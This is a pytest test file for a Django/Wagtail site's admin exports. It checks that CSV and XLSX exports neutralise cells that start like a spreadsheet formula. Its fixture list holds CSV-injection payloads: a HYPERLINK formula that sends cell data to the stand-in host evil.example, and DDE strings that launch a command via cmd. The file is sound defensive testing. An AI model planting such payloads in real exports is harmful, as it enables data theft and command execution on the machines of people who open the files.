"""Spreadsheets exported from the admin carry what providers typed as text, never as a live formula."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from openpyxl import load_workbook

from catalog.models import CatalogIndexPage, RegisterApplication
from tests.catalog import factories
from theme.spreadsheet import neutralise_cell

pytestmark = pytest.mark.django_db
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Apri")',
    "+39 02 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def staff_client(client, home_page):
    admin = get_user_model().objects.create_superuser("comune", "comune@example.org", "una-password-lunga-42")
    client.force_login(admin)
    return client


def application(name: str) -> RegisterApplication:
    return factories.RegisterApplicationFactory(organisation_name=name)


def test_the_admin_csv_export_neutralises_cells_that_start_like_a_formula(staff_client):
    for name in [*FORMULAS, "Teatro dei Ragazzi"]:
        application(name)
    response = staff_client.get(reverse("register_applications:index") + "?export=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
    names = {row["Denominazione dell'ente"] for row in rows}
    assert names == {"'" + formula for formula in FORMULAS} | {"Teatro dei Ragazzi"}


def test_the_admin_xlsx_export_neutralises_cells_that_start_like_a_formula(staff_client):
    application(FORMULAS[0])
    response = staff_client.get(reverse("register_applications:index") + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    column = [cell.value for cell in sheet[1]].index("Denominazione dell'ente") + 1
    name = sheet.cell(row=2, column=column)
    assert name.value == "'" + FORMULAS[0]
    assert name.data_type == "s"


def test_wagtail_reports_export_page_titles_neutralised(staff_client, home_page):
    page = home_page.add_child(instance=CatalogIndexPage(title='=HYPERLINK("https://evil.example")', slug="x"))
    page.save_revision().publish()
    response = staff_client.get(reverse("wagtailadmin_reports:aging_pages") + "?export=csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert "'=HYPERLINK" in text
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text


@pytest.mark.parametrize("value", [12, 3.5, None, "", "Ente -1", "a=b"])
def test_numbers_and_ordinary_text_pass_unchanged(value):
    assert neutralise_cell(value) == value
